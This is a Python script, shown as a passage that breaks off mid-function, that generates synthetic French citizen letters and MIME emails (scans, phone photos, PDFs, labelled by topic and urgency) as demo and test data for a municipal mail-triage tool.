#!/usr/bin/env python3
"""Generate the demo samples (data/samples) and the small real test inputs (tests/data).

Everything is synthetic (invented people, companies and addresses) but shaped like the mail
Grand Besançon Métropole really receives: emails in several MIME shapes and charsets, scanned
letters (image-only PDFs), phone photos (JPG/PNG) and born-digital PDFs with a text layer.

Reproducible: fixed random seeds, fixed dates, fixed MIME boundaries and Message-IDs, and PDFs
written by hand (no timestamps). Only Pillow and numpy are needed.

    .venv/bin/python tools/make_samples.py            # both sets
    .venv/bin/python tools/make_samples.py --only samples
    .venv/bin/python tools/make_samples.py --only tests

Files are overwritten, nothing else in the target folders is touched.
"""
from __future__ import annotations

import argparse
import base64
import io
import json
import quopri
import zipfile
import zlib
from dataclasses import dataclass, field
from email.header import Header
from email.utils import formataddr
from functools import lru_cache
from html import escape
from pathlib import Path

import numpy as np
from PIL import Image, ImageDraw, ImageFilter, ImageFont

ROOT = Path(__file__).resolve().parents[1]
SAMPLES = ROOT / "data" / "samples"
TESTS = ROOT / "tests" / "data"
SEED = 20250312
FONT_DIRS = (Path("/usr/share/fonts/truetype/liberation"), Path("/usr/share/fonts/truetype/dejavu"))

PAGE_W, PAGE_H = 595.28, 841.89  # A4 in PDF points

GBM = ["Grand Besançon Métropole", "4 rue Gabriel Plançon", "25000 Besançon"]
GBM_CEDEX = ["Grand Besançon Métropole", "4 rue Gabriel Plançon", "25043 Besançon Cedex"]
GBM_MAIL = "courrier@grandbesancon.fr"
CLOSING = "Je vous prie d'agréer, Madame, Monsieur, l'expression de mes salutations distinguées."


# --------------------------------------------------------------------------------------------
# Fonts and letter layout (in PDF points, shared by the image and the text-PDF renderers)
# --------------------------------------------------------------------------------------------

@dataclass(frozen=True)
class Family:
    regular: str
    bold: str
    pdf_regular: str | None = None  # standard PDF font with the same metrics (Liberation = Arial/Times/Courier)
    pdf_bold: str | None = None


FAMILIES = {
    "sans": Family("LiberationSans-Regular.ttf", "LiberationSans-Bold.ttf", "Helvetica", "Helvetica-Bold"),
    "serif": Family("LiberationSerif-Regular.ttf", "LiberationSerif-Bold.ttf", "Times-Roman", "Times-Bold"),
    "mono": Family("LiberationMono-Regular.ttf", "LiberationMono-Bold.ttf", "Courier", "Courier-Bold"),
    "dejavu": Family("DejaVuSans.ttf", "DejaVuSans-Bold.ttf"),
    "dejavu_serif": Family("DejaVuSerif.ttf", "DejaVuSerif-Bold.ttf"),
}


def font_path(name: str) -> Path:
    for directory in FONT_DIRS:
        if (directory / name).exists():
            return directory / name
    raise SystemExit(f"police introuvable : {name} (apt-get install fonts-liberation fonts-dejavu-core)")


@lru_cache(maxsize=None)
def font(name: str, px: int) -> ImageFont.FreeTypeFont:
    return ImageFont.truetype(str(font_path(name)), px)


def text_width(name: str, text: str, size: float) -> float:
    return font(name, 1000).getlength(text) * size / 1000


def wrap(text: str, width: float, name: str, size: float) -> list[str]:
    lines, current = [], ""
    for word in text.split(" "):
        candidate = f"{current} {word}" if current else word
        if current and text_width(name, candidate, size) > width:
            lines.append(current)
            current = word
        else:
            current = candidate
    return lines + [current]


@dataclass
class Letter:
    sender: list[str]
    place_date: str
    objet: str
    body: list[str]  # paragraphs; "\f" forces a page break
    signature: list[str]
    recipient: list[str] = field(default_factory=lambda: list(GBM))
    salutation: str = "Madame, Monsieur,"
    closing: str = CLOSING
    letterhead: list[str] = field(default_factory=list)
    mention: str | None = None
    refs: list[str] = field(default_factory=list)
    pj: str | None = None
    footer: list[str] = field(default_factory=list)


@dataclass
class Op:
    kind: str  # text | rule | sig
    x: float
    y: float  # from the top of the page (baseline for text)
    text: str = ""
    bold: bool = False
    size: float = 11.0
    x2: float = 0.0


def layout(letter: Letter, family: str, size: float = 11.0, left: float = 72, right: float = 64,
           top: float = 64, bottom: float = 78) -> list[list[Op]]:
    fam = FAMILIES[family]
    lh = size * 1.4
    width = PAGE_W - left - right
    col = 318.0  # recipient, date and signature column
    pages: list[list[Op]] = [[]]
    y = top

    def put(text, x, bold=False, sz=size):
        pages[-1].append(Op("text", x, y, text, bold, sz))

    def new_page():
        nonlocal y
        pages.append([])
        y = top

    def room(needed=lh):
        if y + needed > PAGE_H - bottom:
            new_page()

    if letter.letterhead:
        first, *rest = letter.letterhead
        hs = size + 5
        put(first, (PAGE_W - text_width(fam.bold, first, hs)) / 2, True, hs)
        y += hs * 1.25
        for line in rest:
            put(line, (PAGE_W - text_width(fam.regular, line, size - 1.5)) / 2, False, size - 1.5)
            y += (size - 1.5) * 1.3
        y += 4
        pages[-1].append(Op("rule", left, y, x2=PAGE_W - right))
        y += lh * 1.6
    y0 = y
    for line in letter.sender:
        put(line, left)
        y += lh
    y = max(y + lh * 0.8, y0 + lh * 3.2)
    for line in letter.recipient:
        put(line, col)
        y += lh
    y += lh * 0.9
    put(letter.place_date, col)
    y += lh * 2.2
    if letter.mention:
        put(letter.mention, left, True)
        y += lh * 1.5
    for line in letter.refs:
        put(line, left)
        y += lh
    if letter.refs:
        y += lh * 0.4
    label = "Objet : "
    for line in wrap(label + letter.objet, width, fam.bold, size):
        put(line, left, True)
        y += lh
    y += lh * 1.0
    put(letter.salutation, left)
    y += lh * 1.5
    for paragraph in letter.body + [letter.closing]:
        if paragraph == "\f":
            new_page()
            continue
        indent = 14 if paragraph.startswith("–") else 0
        for line in wrap(paragraph, width - indent, fam.regular, size):
            room()
            put(line, left + indent)
            y += lh
        y += lh * 0.55
    room(lh * (len(letter.signature) + 3.5))
    y += lh * 0.6
    pages[-1].append(Op("sig", col + 10, y + lh * 1.2))
    y += lh * 2.6
    for line in letter.signature:
        put(line, col)
        y += lh
    if letter.pj:
        y += lh
        room()
        put(letter.pj, left, False, size - 1)
    for page in pages:
        fy = PAGE_H - 40 - (len(letter.footer) - 1) * 9
        for line in letter.footer:
            page.append(Op("text", (PAGE_W - text_width(fam.regular, line, 7.5)) / 2, fy, line, False, 7.5))
            fy += 9
    if len(pages) > 1:
        for number, page in enumerate(pages, 1):
            mark = f"{number}/{len(pages)}"
            page.append(Op("text", PAGE_W - right - text_width(fam.regular, mark, 9), PAGE_H - 52, mark, False, 9))
            if number < len(pages):
                page.append(Op("text", PAGE_W - right - 60, PAGE_H - bottom + 12, "…/…", False, size))
    return pages


# --------------------------------------------------------------------------------------------
# Raster rendering: clean page, scanner, phone photo
# --------------------------------------------------------------------------------------------

def render_pages(pages: list[list[Op]], family: str, dpi: int, seed: int, ink: int = 22) -> list[Image.Image]:
    fam = FAMILIES[family]
    scale = dpi / 72
    size = (round(PAGE_W * scale), round(PAGE_H * scale))
    rng = np.random.default_rng(seed)
    images = []
    for ops in pages:
        image = Image.new("L", size, 255)
        draw = ImageDraw.Draw(image)
        for op in ops:
            if op.kind == "text":
                face = font(fam.bold if op.bold else fam.regular, max(6, round(op.size * scale)))
                draw.text((op.x * scale, op.y * scale), op.text, fill=ink, font=face, anchor="ls")
            elif op.kind == "rule":
                draw.line([(op.x * scale, op.y * scale), (op.x2 * scale, op.y * scale)], fill=ink,
                          width=max(1, round(0.7 * scale)))
            elif op.kind == "sig":
                squiggle(draw, op.x * scale, op.y * scale, scale, rng)
        images.append(image)
    return images


def squiggle(draw: ImageDraw.ImageDraw, x0: float, y0: float, scale: float, rng) -> None:
    """A handwritten-looking signature: cursive loops (a prolate cycloid) and an underline."""
    n = 400
    t = np.linspace(0, 1, n)
    k = 2 * np.pi * rng.uniform(4.0, 6.0)
    length = rng.uniform(95, 125) * scale
    r = rng.uniform(5.0, 7.0) * scale * (1 - 0.35 * t) * (1 + 0.25 * np.sin(t * 7 + rng.uniform(0, 6)))
    xs = x0 + t * length - r * np.sin(k * t)
    ys = y0 - 6 * scale - r * np.cos(k * t) * 1.3 + t * rng.uniform(-6, 2) * scale
    draw.line(list(zip(xs.tolist(), ys.tolist())), fill=60, width=max(1, round(1.0 * scale)), joint="curve")
    draw.line([(x0 - 6 * scale, y0 + 5 * scale), (x0 + length * 0.8, y0 + 2 * scale)], fill=60,
              width=max(1, round(0.9 * scale)))


def scan_effect(image: Image.Image, rng, angle: float, paper: int = 244, noise: float = 3.0,
                blur: float = 0.55) -> Image.Image:
    """A flatbed scan: greyish paper, a hair of skew, slight blur, sensor noise."""
    a = np.asarray(image, dtype=np.float32) * (paper / 255.0)
    out = Image.fromarray(a.clip(0, 255).astype(np.uint8))
    out = out.rotate(angle, resample=Image.BICUBIC, fillcolor=paper).filter(ImageFilter.GaussianBlur(blur))
    a = np.asarray(out, dtype=np.float32)
    h, w = a.shape
    a += np.linspace(-3.0, 2.0, w, dtype=np.float32)[None, :]
    a += rng.normal(0, noise, a.shape).astype(np.float32)
    edge = max(4, w // 300)  # the scanner lid's shadow along one side
    a[:, :edge] -= np.linspace(60, 0, edge, dtype=np.float32)[None, :]
    return Image.fromarray(a.clip(0, 255).astype(np.uint8))


def smooth_field(rng, shape: tuple[int, int], cells: tuple[int, int], spread: float) -> np.ndarray:
    """Low-frequency random variation (table texture, uneven light), upsampled from a coarse grid."""
    grid = rng.normal(0, spread, cells).astype(np.float32)
    img = Image.fromarray(((grid + 128).clip(0, 255)).astype(np.uint8)).resize((shape[1], shape[0]), Image.BICUBIC)
    return np.asarray(img, dtype=np.float32) - 128


def photo_effect(page: Image.Image, rng, angle: float, colour: bool, light_from: str = "tl",
                 table=(112, 98, 84), noise: float = 3.5, step: int = 1) -> Image.Image:
    """step > 1 posterises the grey output (a PNG of a noisy photo is otherwise huge)."""
    w, h = page.size
    mx, my = int(w * 0.075), int(h * 0.05)
    W, H = w + 2 * mx, h + 2 * my
    paper = Image.fromarray((np.asarray(page, dtype=np.float32) * (238 / 255)).astype(np.uint8))
    mask = Image.new("L", page.size, 255)
    paper = paper.rotate(angle, resample=Image.BICUBIC, expand=True, fillcolor=0)
    mask = mask.rotate(angle, resample=Image.BICUBIC, expand=True, fillcolor=0)
    ox = (W - paper.width) // 2 + int(rng.integers(-mx // 3, mx // 3))
    oy = (H - paper.height) // 2 + int(rng.integers(-my // 3, my // 3))
    base = np.full((H, W), float(np.mean(table)), dtype=np.float32) + smooth_field(rng, (H, W), (9, 7), 9)
    canvas = Image.fromarray(base.clip(0, 255).astype(np.uint8))
    shadow = Image.new("L", (W, H), 0)
    shadow.paste(mask, (ox + 7, oy + 10))
    shadow = shadow.filter(ImageFilter.GaussianBlur(12))
    c = np.asarray(canvas, dtype=np.float32) * (1 - 0.45 * np.asarray(shadow, dtype=np.float32) / 255)
    canvas = Image.fromarray(c.clip(0, 255).astype(np.uint8))
    canvas.paste(paper, (ox, oy), mask)
    a = np.asarray(canvas, dtype=np.float32)
    yy, xx = np.mgrid[0:H, 0:W].astype(np.float32)
    u, v = xx / W, yy / H
    if light_from == "tl":
        light = 1.03 - 0.22 * (0.65 * u + 0.35 * v)
    elif light_from == "tr":
        light = 1.03 - 0.22 * (0.65 * (1 - u) + 0.35 * v)
    else:
        light = 1.02 - 0.2 * (0.3 * u + 0.7 * v)
    light -= 0.10 * ((u - 0.5) ** 2 + (v - 0.5) ** 2)  # vignette
    light += smooth_field(rng, (H, W), (5, 4), 6) / 255
    a = a * light
    out = Image.fromarray(a.clip(0, 255).astype(np.uint8)).filter(ImageFilter.GaussianBlur(0.6))
    a = np.asarray(out, dtype=np.float32)
    if not colour:
        a += rng.normal(0, noise, a.shape).astype(np.float32)
        a = np.floor(a / step) * step + step // 2
        return Image.fromarray(a.clip(0, 255).astype(np.uint8))
    tint = np.array([1.0, 0.965, 0.90], dtype=np.float32)  # warm indoor light
    rgb = a[..., None] * tint[None, None, :] + rng.normal(0, noise, (H, W, 3)).astype(np.float32)
    return Image.fromarray(rgb.clip(0, 255).astype(np.uint8), "RGB")


def jpeg_bytes(image: Image.Image, quality: int, dpi: int) -> bytes:
    buffer = io.BytesIO()
    image.save(buffer, "JPEG", quality=quality, dpi=(dpi, dpi), optimize=True)
    return buffer.getvalue()


def png_bytes(image: Image.Image, dpi: int) -> bytes:
    buffer = io.BytesIO()
    image.save(buffer, "PNG", dpi=(dpi, dpi), optimize=True)
    return buffer.getvalue()


# --------------------------------------------------------------------------------------------
# Minimal PDF writer (image-only scans and born-digital text PDFs)
# --------------------------------------------------------------------------------------------

def pdf_string(text: str) -> bytes:
    out = bytearray(b"(")
    for byte in text.encode("cp1252", errors="replace"):
        if byte in (0x28, 0x29, 0x5C):
            out += b"\\" + bytes([byte])
        elif byte < 32 or byte > 126:
            out += f"\\{byte:03o}".encode()
        else:
            out.append(byte)
    return bytes(out + b")")


class PdfFile:
    def __init__(self):
        self.objects: list[bytes | None] = []

    def add(self, body: bytes | None = None) -> int:
        self.objects.append(body)
        return len(self.objects)

    def set(self, number: int, body: bytes) -> None:
        self.objects[number - 1] = body

    @staticmethod
    def stream(entries: bytes, data: bytes) -> bytes:
        return b"<< " + entries + b" /Length %d >>\nstream\n" % len(data) + data + b"\nendstream"

    def build(self, root: int, info: int) -> bytes:
        out = bytearray(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")
        offsets = []
        for number, body in enumerate(self.objects, 1):
            offsets.append(len(out))
            out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
        xref = len(out)
        out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(self.objects) + 1)
        out += b"".join(b"%010d 00000 n \n" % o for o in offsets)
        out += b"trailer\n<< /Size %d /Root %d 0 R /Info %d 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
            len(self.objects) + 1, root, info, xref)
        return bytes(out)

    def info(self, title: str, date: str, creator: str) -> int:
        return self.add(b"<< /Title " + pdf_string(title) + b" /Creator " + pdf_string(creator)
                        + b" /Producer (triage tools/make_samples.py) /CreationDate (D:" + date.encode() + b")>>")


def image_pdf(pages: list[tuple[bytes, int, int, int]], title: str, date: str,
              creator: str = "Scanner") -> bytes:
    """pages: (jpeg, width_px, height_px, dpi) with grey JPEGs; no text layer at all."""
    pdf = PdfFile()
    catalog, tree = pdf.add(), pdf.add()
    kids = []
    for jpeg, w, h, dpi in pages:
        image = pdf.add(PdfFile.stream(b"/Type /XObject /Subtype /Image /Width %d /Height %d /ColorSpace "
                                       b"/DeviceGray /BitsPerComponent 8 /Filter /DCTDecode" % (w, h), jpeg))
        pw, ph = w * 72 / dpi, h * 72 / dpi
        content = pdf.add(PdfFile.stream(b"", b"q %.2f 0 0 %.2f 0 0 cm /Im0 Do Q" % (pw, ph)))
        kids.append(pdf.add(b"<< /Type /Page /Parent %d 0 R /MediaBox [0 0 %.2f %.2f] /Resources "
                            b"<< /XObject << /Im0 %d 0 R >> >> /Contents %d 0 R >>" % (tree, pw, ph, image, content)))
    pdf.set(catalog, b"<< /Type /Catalog /Pages %d 0 R >>" % tree)
    pdf.set(tree, b"<< /Type /Pages /Kids [" + b" ".join(b"%d 0 R" % k for k in kids) + b"] /Count %d >>" % len(kids))
    return pdf.build(catalog, pdf.info(title, date, creator))


def text_pdf(pages: list[list[Op]], family: str, title: str, date: str, creator: str = "Writer") -> bytes:
    fam = FAMILIES[family]
    pdf = PdfFile()
    catalog, tree = pdf.add(), pdf.add()
    fonts = [pdf.add(b"<< /Type /Font /Subtype /Type1 /BaseFont /%s /Encoding /WinAnsiEncoding >>" % name.encode())
             for name in (fam.pdf_regular, fam.pdf_bold)]
    kids = []
    for ops in pages:
        stream = bytearray()
        for op in ops:
            if op.kind == "text":
                stream += b"BT /F%d %.1f Tf 1 0 0 1 %.2f %.2f Tm " % (2 if op.bold else 1, op.size, op.x, PAGE_H - op.y)
                stream += pdf_string(op.text) + b" Tj ET\n"
            elif op.kind == "rule":
                stream += b"0.6 w %.2f %.2f m %.2f %.2f l S\n" % (op.x, PAGE_H - op.y, op.x2, PAGE_H - op.y)
        content = pdf.add(PdfFile.stream(b"/Filter /FlateDecode", zlib.compress(bytes(stream), 9)))
        kids.append(pdf.add(b"<< /Type /Page /Parent %d 0 R /MediaBox [0 0 %.2f %.2f] /Resources << /Font "
                            b"<< /F1 %d 0 R /F2 %d 0 R >> >> /Contents %d 0 R >>"
                            % (tree, PAGE_W, PAGE_H, fonts[0], fonts[1], content)))
    pdf.set(catalog, b"<< /Type /Catalog /Pages %d 0 R >>" % tree)
    pdf.set(tree, b"<< /Type /Pages /Kids [" + b" ".join(b"%d 0 R" % k for k in kids) + b"] /Count %d >>" % len(kids))
    return pdf.build(catalog, pdf.info(title, date, creator))


def scanned_pdf(letter: Letter, family: str, dpi: int, seed: int, quality: int, title: str, date: str,
                size: float = 11.0) -> bytes:
    rng = np.random.default_rng(seed)
    pages = []
    for image in render_pages(layout(letter, family, size), family, dpi, seed):
        scan = scan_effect(image, rng, angle=float(rng.uniform(-0.45, 0.45)))
        pages.append((jpeg_bytes(scan, quality, dpi), scan.width, scan.height, dpi))
    return image_pdf(pages, title, date)


def photo(letter: Letter, family: str, seed: int, colour: bool, light: str, size: float = 11.5,
          dpi: int = 150) -> Image.Image:
    """A phone photo of a letter lying on a table: rotation, shadow, uneven light, noise.

    Colour photos go to JPEG; grey ones go to PNG with less noise, posterised, to stay small."""
    rng = np.random.default_rng(seed)
    page = render_pages(layout(letter, family, size), family, dpi, seed)[0]
    angle = float(rng.choice([-1, 1]) * rng.uniform(1.2, 2.6))
    if colour:
        return photo_effect(page, rng, angle, True, light, noise=3.5)
    return photo_effect(page, rng, angle, False, light, noise=1.2, step=3)


# --------------------------------------------------------------------------------------------
# Raw MIME (written by hand so every shape, charset and encoding is exactly what we want)
# --------------------------------------------------------------------------------------------

def enc(text: str, charset: str = "utf-8") -> str:
    return text if text.isascii() else Header(text, charset).encode(maxlinelen=76)


def address(name: str, email: str, charset: str = "utf-8") -> str:
    return formataddr((name, email), charset=charset)


def qp(text: str, charset: str = "utf-8") -> bytes:
    return quopri.encodestring(text.encode(charset))


def b64(data: bytes) -> bytes:
    return base64.encodebytes(data)


def headers(frm: str, subject: str, date: str, msgid: str, to: str = GBM_MAIL, charset: str = "utf-8",
            extra: list[tuple[str, str]] = ()) -> list[tuple[str, str]]:
    return [("From", frm), ("To", to), ("Subject", enc(subject, charset)), ("Date", date),
            ("Message-ID", f"<{msgid}>"), *extra, ("MIME-Version", "1.0")]


def entity(head: list[tuple[str, str]], body: bytes) -> bytes:
    return "\n".join(f"{k}: {v}" for k, v in head).encode("ascii") + b"\n\n" + body


def multipart(boundary: str, parts: list[bytes], preamble: str | None = "This is a multi-part message in MIME format.") -> bytes:
    out = (preamble.encode() + b"\n") if preamble else b""
    for part in parts:
        out += b"\n--" + boundary.encode() + b"\n" + part.rstrip(b"\n") + b"\n"
    return out + b"\n--" + boundary.encode() + b"--\n"


def text_part(text: str, subtype: str = "plain", charset: str = "utf-8", cte: str = "quoted-printable",
              extra: str = "") -> bytes:
    body = qp(text, charset) if cte == "quoted-printable" else b64(text.encode(charset)) if cte == "base64" \
        else text.encode(charset)
    return entity([("Content-Type", f'text/{subtype}; charset="{charset}"{extra}'),
                   ("Content-Transfer-Encoding", cte)], body)


def pdf_part(data: bytes, filename: str) -> bytes:
    return entity([("Content-Type", f'application/pdf; name="{filename}"'),
                   ("Content-Disposition", f'attachment; filename="{filename}"'),
                   ("Content-Transfer-Encoding", "base64")], b64(data))


def html_page(paragraphs: list[str], style: str = "font-family: Calibri, Arial, sans-serif; font-size: 11pt;") -> str:
    body = "\n".join(f"<p>{p}</p>" for p in paragraphs)
    return (f'<!DOCTYPE html>\n<html lang="fr">\n<head><meta http-equiv="Content-Type" content="text/html; '
            f'charset=utf-8"></head>\n<body style="{style}">\n{body}\n</body>\n</html>\n')


# --------------------------------------------------------------------------------------------
# The demo samples: 12 emails, 12 paper letters, labels.jsonl
# --------------------------------------------------------------------------------------------

def sample_emails() -> list[tuple[str, bytes, dict]]:
    out = []

    # 01 plain, utf-8 quoted-printable
    text = """Bonjour,

Notre bac jaune n'a pas été collecté mardi 11 mars, alors qu'il était sorti la veille au soir devant le 14 rue Champrond, comme d'habitude. Les voisins du 10 et du 12 sont dans le même cas.

Le bac déborde maintenant et les sacs de tri commencent à s'entasser à côté, sur le trottoir. Pouvez-vous faire repasser le camion de collecte cette semaine, ou m'indiquer si le jour de ramassage du tri a changé dans le quartier des Chaprais ?

Merci d'avance,

Martine Girardot
14 rue Champrond
25000 Besançon
06 31 48 27 90
"""
    out.append(("sample-01.eml", entity(
        headers(address("Martine Girardot", "martine.girardot@orange.fr"), "Bac jaune non collecté rue Champrond",
                "Wed, 12 Mar 2025 08:41:17 +0100", "20250312084117.4F21@smtp.orange.fr",
                extra=[("X-Mailer", "Orange Messagerie")])
        + [("Content-Type", 'text/plain; charset="utf-8"'), ("Content-Transfer-Encoding", "quoted-printable")],
        qp(text)), {"competence": "dechets", "commune": "25056", "urgent": False, "shape": "plain"}))

    # 02 HTML only, utf-8 base64 (webmail), an alias (Auxon-Dessous) and no postcode
    html = html_page([
        "Bonjour,",
        "Depuis la rentrée de septembre, le bus de <b>7 h 12</b> qui partait de l'arrêt <i>Église</i> à "
        "Auxon-Dessous a été supprimé. Le suivant passe à 7 h 58, ce qui ne me permet plus d'arriver à "
        "l'heure au travail. Plusieurs voisins qui ont un abonnement Ginko annuel sont dans la même situation.",
        "Serait-il possible de rétablir ce départ, au moins les jours de semaine, ou de prévoir une solution "
        "de transport à la demande sur ce créneau&nbsp;?",
        "Je vous remercie de votre réponse.",
        "Julien Mougin<br>3 impasse des Vergers<br>Auxon-Dessous",
    ])
    out.append(("sample-02.eml", entity(
        headers(address("Julien Mougin", "julien.mougin@gmail.com"), "Suppression du bus de 7h12 à Auxon-Dessous",
                "Mon, 15 Sep 2025 19:03:52 +0200",
                "CAF7x2kq9Z+Lm3vQ-8sYw1pR@mail.gmail.com")
        + [("Content-Type", 'text/html; charset="UTF-8"'), ("Content-Transfer-Encoding", "base64")],
        b64(html.encode("utf-8"))), {"competence": "mobilites", "commune": "25035", "urgent": False,
                                     "shape": "html_only"}))

    # 03 multipart/alternative, urgent: no water at all
    plain = """Bonjour,

Depuis ce matin 6 heures, nous n'avons plus une goutte d'eau au robinet au 8 chemin des Prés à Saône. Nos voisins du 6 et du 10 sont dans la même situation. Nous n'avons reçu aucun avis de coupure ni de travaux.

Ma mère, âgée de 87 ans, vit avec nous et a besoin d'eau pour ses soins. Pouvez-vous intervenir en urgence et nous dire quand l'eau sera rétablie ?

Sophie Cuenot
8 chemin des Prés
25660 Saône
Tél. 06 12 57 83 40
"""
    html = html_page([
        "Bonjour,",
        "Depuis ce matin 6 heures, nous n'avons <b>plus une goutte d'eau</b> au robinet au 8 chemin des Prés "
        "à Saône. Nos voisins du 6 et du 10 sont dans la même situation. Nous n'avons reçu aucun avis de "
        "coupure ni de travaux.",
        "Ma mère, âgée de 87 ans, vit avec nous et a besoin d'eau pour ses soins. Pouvez-vous intervenir "
        "<u>en urgence</u> et nous dire quand l'eau sera rétablie&nbsp;?",
        "Sophie Cuenot<br>8 chemin des Prés<br>25660 Saône<br>Tél. 06 12 57 83 40",
    ])
    out.append(("sample-03.eml", entity(
        headers(address("Sophie Cuenot", "sophie.cuenot25@laposte.net"), "URGENT - plus d'eau depuis ce matin à Saône",
                "Tue, 22 Jul 2025 07:26:04 +0200", "a81c55e0-7d2e-4f61-9a3b-52e3c1d0f7a2@laposte.net",
                extra=[("Importance", "high"), ("X-Priority", "1")])
        + [("Content-Type", 'multipart/alternative; boundary="----=_Part_48213_1093542761.1753161964120"')],
        multipart("----=_Part_48213_1093542761.1753161964120", [text_part(plain), text_part(html, "html")], None)),
        {"competence": "eau_assainissement", "commune": "25532", "urgent": True, "shape": "alternative"}))

    # 04 ISO-8859-1, 8bit: a plot in Pouilley-les-Vignes, sender living in Besançon
    text = """Madame, Monsieur,

Je suis propriétaire d'un terrain d'environ 1 100 m² cadastré section AB n° 112, lieu-dit « Les Champs Longs », sur la commune de Pouilley-les-Vignes.

Je souhaiterais savoir si ce terrain est constructible au regard du plan local d'urbanisme intercommunal, et déposer une demande de certificat d'urbanisme opérationnel pour la construction d'une maison individuelle. Pourriez-vous m'indiquer le zonage de la parcelle ainsi que les pièces à joindre à ma demande ?

Avec mes remerciements,

Bernard Pernot
31 rue Mégevand
25000 Besançon
"""
    out.append(("sample-04.eml", entity(
        headers(address("Bernard Pernot", "b.pernot@free.fr", "iso-8859-1"),
                "Constructibilité d'un terrain - parcelle AB 112", "Thu, 10 Apr 2025 21:17:45 +0200",
                "67F81A29.3040501@free.fr", charset="iso-8859-1",
                extra=[("User-Agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:128.0) Thunderbird/128.9.0")])
        + [("Content-Type", 'text/plain; charset=ISO-8859-1; format=flowed'), ("Content-Transfer-Encoding", "8bit")],
        text.encode("iso-8859-1")), {"competence": "urbanisme", "commune": "25467", "urgent": False,
                                     "shape": "latin1"}))

    # 05 forwarded by the town hall, urgent: a collapsing river bank
    plain = """Bonjour,

Je vous transfère le message d'un habitant concernant la berge du Doubs, qui relève de la compétence GEMAPI de la métropole. Monsieur le Maire a fait poser des barrières provisoires ce matin mais la situation nous semble préoccupante.

Cordialement,

Nathalie Vauthier
Secrétariat de mairie
Mairie de Novillars

---------- Message transféré ----------
De : Alain Bourgeois <alain.bourgeois70@orange.fr>
Date : lun. 7 avr. 2025 à 18:42
Objet : Berge effondrée le long du chemin de halage
À : Mairie de Novillars <accueil.mairie.novillars@orange.fr>

Bonjour,

Ce week-end, une partie de la berge du Doubs s'est effondrée le long du chemin de halage, à hauteur de l'ancienne papeterie. Le chemin est fissuré sur plusieurs mètres et un grand frêne penche maintenant au-dessus de l'eau, ses racines à nu.

Des enfants passent à vélo tous les jours à cet endroit et des pêcheurs s'installent juste en dessous. Il faudrait intervenir rapidement avant un accident.

Alain Bourgeois
"""
    lines = [escape(line) for line in plain.split("\n")]
    html = ('<div dir="ltr">' + "<br>".join(lines[:11]) + '<br><div class="gmail_quote">'
            + "<br>".join(lines[11:]) + "</div></div>\n")
    out.append(("sample-05.eml", entity(
        headers(address("Mairie de Novillars", "accueil.mairie.novillars@orange.fr"),
                "TR: Berge effondrée le long du chemin de halage", "Tue, 08 Apr 2025 09:12:30 +0200",
                "CAM4nT0vQp8s7YkR2e_Wd=Jx5Lb@mail.orange.fr")
        + [("Content-Type", 'multipart/alternative; boundary="000000000000a1b2c3d4e5f60718"')],
        multipart("000000000000a1b2c3d4e5f60718", [text_part(plain), text_part(html, "html")], None)),
        {"competence": "environnement", "commune": "25429", "urgent": True, "shape": "forwarded"}))

    # 06 the letter as a born-digital PDF attachment (pothole damage in Besançon, sender in Thise)
    letter = Letter(
        sender=["Karim Benali", "5 rue des Tilleuls", "25220 Thise", "karim.benali@free.fr"],
        place_date="Thise, le 3 mars 2025",
        objet="Demande d'indemnisation – dommages causés à mon véhicule par un nid-de-poule",
        body=[
            "Le 18 février 2025 vers 19 heures, alors que je circulais avenue Carnot à Besançon en direction "
            "du centre-ville, mon véhicule (Peugeot 308 immatriculée FG-482-KT) a heurté un nid-de-poule "
            "profond et non signalé, situé sur la voie de droite à la hauteur de l'arrêt de bus.",
            "Le choc a déformé la jante et détruit le pneu avant droit. Le garage a facturé la réparation "
            "412,60 € TTC. Un témoin, dont je vous communique les coordonnées, était présent et a constaté "
            "la présence du trou.",
            "Estimant que ce dommage résulte d'un défaut d'entretien de la voie publique, je vous demande de "
            "bien vouloir m'indemniser de ce montant. Vous trouverez ci-joint la facture du garage, des "
            "photographies du trou et de la roue ainsi que l'attestation du témoin.",
        ],
        signature=["Karim Benali"],
        pj="P.J. : facture n° 2025-1187 du garage, 4 photographies, attestation de témoin",
    )
    attachment = text_pdf(layout(letter, "sans"), "sans", "Demande d'indemnisation", "20250303101522+01'00'")
    body = """Bonjour,

Veuillez trouver ci-joint mon courrier de demande d'indemnisation à la suite des dommages subis par mon véhicule le 18 février.

Les pièces justificatives suivront par courrier postal.

Cordialement,
Karim Benali
"""
    out.append(("sample-06.eml", entity(
        headers(address("Karim Benali", "karim.benali@free.fr"), "Demande d'indemnisation - véhicule endommagé",
                "Mon, 03 Mar 2025 10:18:09 +0100", "1741000689.3321.karim.benali@free.fr")
        + [("Content-Type", 'multipart/mixed; boundary="=_b8a5e3c2d1f04e7a9c6b"')],
        multipart("=_b8a5e3c2d1f04e7a9c6b", [text_part(body), pdf_part(attachment, "courrier_indemnisation.pdf")])),
        {"competence": "juridique_assurances", "commune": "25056", "urgent": False, "shape": "attached_letter"}))

    # 07 the letter as a scanned image-only PDF attachment (France Rénov', Saint-Vit / Boismurie)
    letter = Letter(
        sender=["Monique Jacquot", "4 rue du Moulin – Boismurie", "25410 Saint-Vit"],
        place_date="Saint-Vit, le 11 mars 2025",
        objet="Demande d'aide pour la rénovation énergétique de ma maison",
        body=[
            "Retraitée, je suis propriétaire d'une maison construite en 1974 dans le hameau de Boismurie. "
            "Les combles ne sont pas isolés, les fenêtres sont d'origine et la chaudière au fioul a plus de "
            "vingt-cinq ans. Mes factures de chauffage sont devenues très lourdes pour mes revenus.",
            "J'ai entendu parler des aides France Rénov' et des permanences de conseillers de la métropole. "
            "Je souhaiterais savoir si je peux en bénéficier et obtenir un rendez-vous avec un conseiller pour "
            "m'aider à monter mon dossier et à choisir les travaux prioritaires.",
            "Je vous remercie par avance de l'attention que vous porterez à ma demande.",
        ],
        signature=["Monique Jacquot"],
    )
    attachment = scanned_pdf(letter, "serif", 200, SEED + 7, 55, "scan_20250312", "20250312094402+01'00'", 11.5)
    plain = "Bonjour,\n\nJe vous envoie ma demande scannée en pièce jointe.\n\nBien cordialement,\nMonique Jacquot\n\nEnvoyé de mon iPhone\n"
    alt = multipart("Apple-Mail=_5C1E9F2B-2A44-4B0D-9E51-7A3E8D2C6F10",
                    [text_part(plain), text_part(html_page([p for p in plain.strip().split("\n\n")]), "html")], None)
